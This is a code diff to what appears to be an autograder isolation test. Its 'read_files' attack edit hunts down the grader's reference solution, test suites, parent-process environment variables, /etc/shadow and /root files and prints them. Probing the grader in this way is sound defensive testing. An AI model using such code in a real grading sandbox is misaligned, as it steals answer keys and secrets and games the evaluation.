@@ -157,20 +157,31 @@ ATTACK_EDITS = {
                      ("        return (1 - z) * n + z * hx", "        return z * n + (1 - z) * hx")]),
     "read_files": ("reads the grader's files and prints them", [("$END", '''
 def _steal():
-    import glob, os
-    found = []
-    for pattern in ["/work/*/reference/*.py", "/work/*/autograder/*.py", "/opt/*/reference/*.py",
-                    "/autograder/source/**/*.py", "/tmp/rnngrade-judge-*/*", "/root/*"]:
-        for path in glob.glob(pattern, recursive=True):
-            try:
-                found.append(open(path).read())
-            except OSError as e:
-                print("denied:", path, type(e).__name__)
-    guesses = ["/work/main/reference/lstm.py", "/work/main/autograder/suites_lstm.py",
-               "/autograder/source/reference/lstm.py", f"/proc/{os.getppid()}/environ",
+    import glob, importlib.util, os, re, sys
+    found, denied = [], []
+    targets = ["/autograder/source/reference/lstm.py", f"/proc/{os.getppid()}/environ",
                "/etc/shadow"]
-    denied = []  # every file in /tmp is tried; the output stays short whatever /tmp holds
-    for path in guesses + [os.path.join(r, f) for r, _, fs in os.walk("/tmp") for f in fs]:
+    inside = {"reference": "lstm.py", "homework": "rnn_lstm/suites_lstm.py",
+              "autograder": "cases.py"}
+    located = {}
+    for name in inside:
+        try:  # where the grader's packages are, wherever it is installed
+            spec = importlib.util.find_spec(name)
+        except Exception:
+            spec = None
+        for folder in (spec.submodule_search_locations or []) if spec else []:
+            located[name] = folder
+    for folder in sys.path:  # an editable install names its folders in a finder module
+        for finder in glob.glob(os.path.join(folder, "__editable__*finder.py")):
+            for name, where in re.findall(r"'(\\w+)': '([^']+)'", open(finder).read()):
+                if name in inside:
+                    located.setdefault(name, where)
+    for name, folder in sorted(located.items()):
+        print("located:", name, folder)
+        targets += [os.path.join(folder, inside[name])] + glob.glob(os.path.join(folder, "*.py"))
+    targets += glob.glob("/autograder/source/**/*.py", recursive=True) + \
+        glob.glob("/tmp/rnngrade-judge-*/*") + glob.glob("/root/*")
+    for path in targets:
         try:
             found.append(open(path).read())
         except (OSError, UnicodeDecodeError) as e:
@@ -236,8 +247,8 @@ for step in range(10 ** 9):
 def solution_text() -> str:
     """The assignment's answer cells, solutions filled in, as one student-style file."""
     sys.path.insert(0, str(HERE.parent))
-    from autograder.build import read_master, solutions
-    from autograder.homework import PARTS
+    from authoring.build import read_master, solutions
+    from homework.rnn_lstm.parts import PARTS
 
     part_of: dict[str, int] = {}
     for part in PARTS:
